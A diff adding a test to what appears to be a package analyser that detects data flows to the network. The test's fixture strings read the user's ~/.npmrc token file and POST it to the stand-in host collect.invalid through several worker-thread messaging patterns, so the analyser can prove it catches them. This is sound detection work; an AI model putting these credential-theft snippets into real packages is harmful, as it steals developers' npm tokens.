@@ -44,6 +44,40 @@ describe('events of the package itself', () => {
     assert.deepEqual(flowsOf(`const e = new events(); e.on('y', (v) => ${SEND}(v)); e.emit('x', s);`), []);
   });
 
+  it('go between workers and who starts them, by whatever channel', () => {
+    const start = `const { Worker, MessageChannel } = require('worker_threads'); const path = require('path'); const w = new Worker(path.join(__dirname, 'w.js'));`;
+    const send = (data: string): string =>
+      `require('https').request('https://collect.invalid', { method: 'POST' }).end(${data});`;
+    const read = `require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')`;
+    for (const [main, worker] of [
+      [
+        `${start} w.on('message', ({ file }) => { ${send('file')} });`,
+        `require('worker_threads').parentPort.postMessage({ file: ${read} });`,
+      ],
+      [
+        `${start} w.postMessage({ file: ${read} });`,
+        `const { parentPort } = require('worker_threads'); parentPort.on('message', (m) => { ${send('m.file')} });`,
+      ],
+      [
+        `${start} const { port1, port2 } = new MessageChannel(); w.postMessage({ port: port2 }, [port2]); port1.on('message', (m) => { ${send('m.file')} });`,
+        `let port; require('worker_threads').parentPort.on('message', ({ port: p }) => { port = p; port.postMessage({ file: ${read} }); });`,
+      ],
+      [
+        `const w = new Worker('./w.js'); w.onmessage = (e) => { ${send('e.data')} };`,
+        `self.onmessage = () => { postMessage(${read}); }; self.postMessage(${read});`,
+      ],
+      [
+        `const w = new Worker('./w.js'); w.postMessage(${read});`,
+        `addEventListener('message', ({ data }) => { ${send('data')} });`,
+      ],
+      [`const w = new Worker('./w.js'); w.postMessage(${read});`, `onmessage = ({ data }) => { ${send('data')} };`],
+    ] as const) {
+      const { flows } = analysePackage(packageOf({ 'index.js': main, 'w.js': worker }));
+      const seen = flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
+      assert.deepEqual([...new Set(seen)], [SENT], `${main} ${worker}`);
+    }
+  });
+
   it('bring what a worker found to the code that started it', () => {
     const { flows } = analysePackage(
       packageOf({
